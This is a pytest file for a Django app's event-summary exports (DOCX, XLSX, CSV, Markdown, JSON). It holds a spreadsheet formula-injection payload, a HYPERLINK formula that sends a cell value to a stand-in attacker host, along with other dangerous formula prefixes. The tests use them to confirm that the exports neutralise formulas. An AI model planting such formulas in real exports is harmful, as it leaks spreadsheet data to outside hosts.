import csv
import io
import re
import zipfile

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn

from events.models import Check, Statement
from events.summaries.as_csv import render_with_bom
from events.summaries.as_json import data
from events.summaries.as_markdown import escaped
from events.summaries.builder import summarize
from events.summaries.formats import FORMATS
from events.transfer.writer import record
from tests.events.whole_event import whole_event
from tests.factories import DAY, EventFactory, ParticipationFactory, StatementFactory

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
DANGEROUS = [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def formulas():
    """An event at which nothing but formulas was said."""
    event = EventFactory(title="=1+1")
    for order, words in enumerate(DANGEROUS):
        StatementFactory(
            participation=ParticipationFactory(event=event, printed_name=FORMULA),
            words=words,
            order=order,
        )
    return event


def document(summary):
    return docx.Document(io.BytesIO(FORMATS["docx"].render(summary)))


def workbook(summary):
    return openpyxl.load_workbook(io.BytesIO(FORMATS["xlsx"].render(summary)))


def test_docx_has_real_headings_in_order():
    word = document(summarize(whole_event(), "en"))

    headings = [p.text for p in word.paragraphs if p.style.name in {"Title", "Heading 1"}]
    assert headings == [
        "The river – who keeps it?",
        "Participants",
        "What was said",
        "What the participants agreed on",
        "How the words were checked",
        "How to cite",
    ]


def test_docx_tells_its_source_in_its_properties():
    properties = document(summarize(whole_event(), "uk")).core_properties

    assert (properties.title, properties.author, properties.last_modified_by) == (
        "Річка – хто її береже?",
        "Newsroom",
        "Newsroom",
    )
    assert (properties.language, properties.identifier) == (
        "uk-UA",
        "http://testserver/uk/events/river/",
    )


def test_docx_marks_the_language_of_document_and_passage():
    word = document(summarize(whole_event(), "en"))

    default = word.styles.element.find(f".//{qn('w:rPrDefault')}//{qn('w:lang')}")
    marked = {
        run.text: run._r.rPr.find(qn("w:lang")).get(qn("w:val"))
        for paragraph in word.paragraphs
        for run in paragraph.runs
        if run._r.rPr is not None and run._r.rPr.find(qn("w:lang")) is not None
    }
    assert default.get(qn("w:val")) == "en-GB"
    assert marked == {"«Ми чули лід.»": "uk-UA"}


def test_docx_tables_have_a_repeated_header_row_and_an_alternative_text():
    word = document(summarize(whole_event(), "en"))

    facts, participants = word.tables
    assert [cell.text for cell in participants.rows[0].cells][:3] == [
        "Name",
        "Capacity at the event",
        "Part",
    ]
    assert participants.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    assert [
        t._tbl.tblPr.find(qn("w:tblCaption")).get(qn("w:val")) for t in (facts, participants)
    ] == [
        "Facts of the event",
        "Participants",
    ]


def test_docx_is_a4_without_text_boxes():
    word = document(summarize(whole_event(), "en"))

    section = word.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert b"txbx" not in word.element.xml.encode()


def test_docx_takes_words_that_xml_cannot_hold():
    event = EventFactory()
    StatementFactory(participation__event=event, words="a\x0bb")

    assert "“ab”" in [p.text for p in document(summarize(event, "en")).paragraphs]


def test_xlsx_has_four_sheets_with_frozen_filtered_headers():
    book = workbook(summarize(whole_event(), "en"))

    assert book.sheetnames == ["Summary", "Participants", "Statements", "Coverage"]
    for name in book.sheetnames[1:]:
        assert book[name].freeze_panes == "A2"
        assert book[name].auto_filter.ref.startswith("A1:")


def test_xlsx_has_real_dates():
    sheet = workbook(summarize(whole_event(), "en"))["Statements"]

    column = [cell.value for cell in sheet[1]].index("Said on")
    cell = sheet[2][column]
    assert (cell.value.date(), cell.number_format) == (DAY, "yyyy-mm-dd")


def test_xlsx_has_no_formula(formulas):
    content = FORMATS["xlsx"].render(summarize(formulas, "en"))

    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [package.read(n) for n in package.namelist() if "worksheets/sheet" in n]
    book = openpyxl.load_workbook(io.BytesIO(content))
    words = [row[8] for row in book["Statements"].iter_rows(min_row=2)]
    assert [b"<f>" in sheet for sheet in sheets] == [False] * 4
    assert {cell.data_type for cell in words} == {"s"}
    assert {cell.quotePrefix for cell in words} == {True}
    assert words[0].value == FORMULA


def test_csv_neutralises_formulas(formulas):
    text = FORMATS["csv"].render(summarize(formulas, "en")).decode()

    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[8] for row in rows[1:]] == [f"'{words}" for words in DANGEROUS]
    assert {row[5] for row in rows[1:]} == {f"'{FORMULA}"}


def test_csv_has_a_row_for_each_statement_under_a_header():
    text = FORMATS["csv"].render(summarize(whole_event(), "en")).decode()

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(row["Id"], row["Said on"], row["Words"]) for row in rows] == [
        ("sbcdfg1", "2021-05-13", "We heard the ice."),
        ("sbcdfg2", "2021-05-13", "We heard it."),
        ("sbcdfg3", "2021-05-13", "ice will come by June."),
        ("sbcdfg6", "2021-05-13", "it is cold."),
    ]


def test_csv_carries_a_mark_for_excel_on_demand():
    summary = summarize(whole_event(), "en")

    assert render_with_bom(summary) == b"\xef\xbb\xbf" + FORMATS["csv"].render(summary)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain words", "plain words"),
        ("*bold* _it_ `code`", r"\*bold\* \_it\_ \`code\`"),
        ("[a](b) <b>", r"\[a\](b) \<b\>"),
        ("# no heading", r"\# no heading"),
        ("- no list", r"\- no list"),
        ("1. no list", r"1\. no list"),
        ("a|b", r"a\|b"),
        ("two\nlines", "two lines"),
    ],
)
def test_markdown_is_escaped(text, expected):
    assert escaped(text) == expected


def test_markdown_prints_quotations_as_blockquotes_with_attribution():
    text = FORMATS["md"].render(summarize(whole_event(), "en")).decode()

    assert (
        "> “We heard the ice.”\n"
        ">\n"
        "> — [**Olena Pilot**](<http://testserver/people/olena-pilot/>), director, Centre\n"
        ">\n"
        "> Original (Ukrainian): «Ми чули лід.»\n"
    ) in text


def keys_of(value):
    """Every key of the objects in plain data."""
    if isinstance(value, list):
        return {key for each in value for key in keys_of(each)}
    if not isinstance(value, dict):
        return set()
    return set(value) | {key for each in value.values() for key in keys_of(each)}


def test_every_key_of_the_json_is_documented(settings):
    event = whole_event()
    text = (settings.BASE_DIR / "docs/formats/event-json.md").read_text()
    documented = set(re.findall(r"[`\"…. ]([a-z_0-9]+)[`\"]", text))
    by_kind = {*Statement.Kind.values, *Check.Method.values}

    recap, whole = data(summarize(event, "en")), record(event)

    assert keys_of(recap) - documented - by_kind == set()
    assert keys_of(whole) - documented - set(dict(settings.LANGUAGES)) == set()
